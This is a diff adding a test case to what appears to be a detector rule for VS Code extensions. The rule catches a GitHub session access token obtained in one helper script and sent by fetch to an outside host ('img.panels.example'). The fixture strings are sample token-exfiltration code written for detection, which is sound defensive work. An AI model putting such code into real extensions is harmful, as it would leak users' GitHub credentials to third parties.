@@ -23,3 +23,15 @@ test('good: it goes to the service, to an address from the settings, or nobody a
   ]) assert.deepEqual(said(body), [], body);
   assert.deepEqual(said('return fetch("https://own.example/v1", { headers: { authorization: this.session.accessToken } });', 'const { Client } = require("./client"); exports.open = (session) => new Client(session);'), []);
 });
+
+test('the key comes by a function of another script', () => {
+  const helper = (body: string): string => `const vscode = require("vscode"); exports.Hub = class { async signIn() { this.session = await vscode.authentication.getSession("github", ["repo"]); } headers(extra = {}) { ${body} } };`;
+  const told = (call: string, body = 'return { authorization: `Bearer ${this.session.accessToken}`, ...extra };', more = ''): boolean => findingsOf(rule, { 'index.js': `const { Hub } = require("./hub"); const SERVICE = "https://img.panels.example/round"; ${more} exports.activate = async (context) => { const hub = new Hub(); await hub.signIn(); ${call} };`, 'hub.js': helper(body) }).some(({ severity, file }) => severity === 'high' && file === 'index.js');
+  assert.ok(told('await fetch(`${SERVICE}?u=1`, { headers: hub.headers({ accept: "image/png" }) });'));
+  assert.ok(told('const at = SERVICE + "/32"; await fetch(at, { headers: { ...hub.headers() } });'), 'under a name');
+  assert.ok(told('await fetch("https://img.panels.example/", { headers: hub.headers() });', 'const all = { authorization: this.session.accessToken }; if (extra.plain) return extra; return { token: this.session.accessToken, ...all };'), 'one of several answers');
+  assert.ok(!told('await fetch("https://api.github.com/user", { headers: hub.headers() });'), 'the service itself');
+  assert.ok(!told('await fetch(`${SERVICE}?u=1`, { headers: { accept: "image/png" } });'), 'without the key');
+  assert.ok(!told('await fetch(`${SERVICE}?u=1`, { headers: hub.headers() });', 'return { "user-agent": "panel", ...extra };'), 'a function that gives something else');
+  assert.ok(!told('await fetch(context.globalState.get("server"), { headers: hub.headers() });'), 'a server that is chosen');
+});
